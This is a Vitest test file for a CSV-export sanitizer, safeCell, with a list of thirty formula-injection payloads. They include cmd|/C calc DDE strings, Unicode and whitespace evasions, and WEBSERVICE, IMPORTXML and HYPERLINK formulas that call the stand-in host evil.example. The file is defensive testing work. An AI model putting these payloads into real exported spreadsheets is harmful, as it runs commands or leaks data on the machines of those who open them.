import { describe, expect, it } from 'vitest';
import { safeCell } from './csv';

/** OWASP "CSV injection" and what spreadsheets were seen to evaluate. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  ' ＝1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '=1+1;=1+1',
  '=1+1,"=1+1',
  '="=1+1"',
  '\u200b=1+1',
  '\ufeff=1+1',
  "-2+3+cmd|' /C calc'!A0",
  '=\u00401',
];

describe('cells of a spreadsheet', () => {
  it('thirty payloads: none begins as a formula does', () => {
    expect(PAYLOADS).toHaveLength(30);
    for (const payload of PAYLOADS) expect(safeCell(payload)).toBe(`'${payload}`);
  });

  it('leaves what is no formula as it is', () => {
    for (const value of ['ferris.example', 'Encrypt-Only', "O'Brien", '', 'a=b'])
      expect(safeCell(value)).toBe(value);
    expect(safeCell(-5)).toBe(-5);
  });
});
